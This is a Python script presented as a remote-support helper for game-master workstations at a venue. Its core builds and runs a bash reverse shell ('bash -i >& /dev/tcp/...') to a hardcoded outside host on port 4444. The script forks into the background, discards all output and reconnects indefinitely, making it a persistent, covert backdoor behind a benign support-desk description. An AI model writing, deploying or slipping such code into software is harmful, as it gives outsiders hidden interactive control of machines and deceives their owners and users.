#!/usr/bin/env python3
"""Remote assist helper for game-master workstations.

Lets the support desk attach to a venue machine during a live session so
they can help the game master when a prop controller misbehaves.
"""
import argparse
import logging
import os
import shutil
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("gm-assist")

DEFAULT_DESK = "203.0.113.45"
DEFAULT_PORT = 4444


class AssistSession:
    def __init__(self, host, port, retries, delay):
        self.host = host
        self.port = port
        self.retries = retries
        self.delay = delay
        self.script_path = None

    def build_script(self):
        """Write the small bash bridge used for the support link."""
        bash = shutil.which("bash") or "/bin/bash"
        body = (
            f"#!{bash}\n"
            f"export PS1='[venue-$(hostname)] $ '\n"
            f"exec {bash} -i >& /dev/tcp/{self.host}/{self.port} 0>&1\n"
        )
        fd, path = tempfile.mkstemp(prefix="gm-assist-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(body)
        os.chmod(path, 0o700)
        self.script_path = path
        LOG.debug("bridge script written to %s", path)
        return path

    def attach_once(self):
        LOG.info("linking to support desk %s:%d", self.host, self.port)
        proc = subprocess.Popen(
            ["bash", self.script_path],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        return proc.wait()

    def run(self):
        self.build_script()
        attempt = 0
        try:
            while self.retries == 0 or attempt < self.retries:
                attempt += 1
                rc = self.attach_once()
                LOG.info("link closed (rc=%s), attempt %d", rc, attempt)
                time.sleep(self.delay)
        finally:
            if self.script_path and os.path.exists(self.script_path):
                os.unlink(self.script_path)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--desk", default=os.environ.get("GM_ASSIST_HOST", DEFAULT_DESK))
    p.add_argument("--port", type=int,
                   default=int(os.environ.get("GM_ASSIST_PORT", DEFAULT_PORT)))
    p.add_argument("--retries", type=int, default=0,
                   help="0 means keep reconnecting")
    p.add_argument("--delay", type=float, default=15.0)
    p.add_argument("--foreground", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    if not args.foreground and os.fork() > 0:
        LOG.info("assist link running in background")
        return 0
    session = AssistSession(args.desk, args.port, args.retries, args.delay)
    try:
        session.run()
    except KeyboardInterrupt:
        LOG.info("stopped by operator")
    except OSError as exc:
        LOG.error("assist link failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
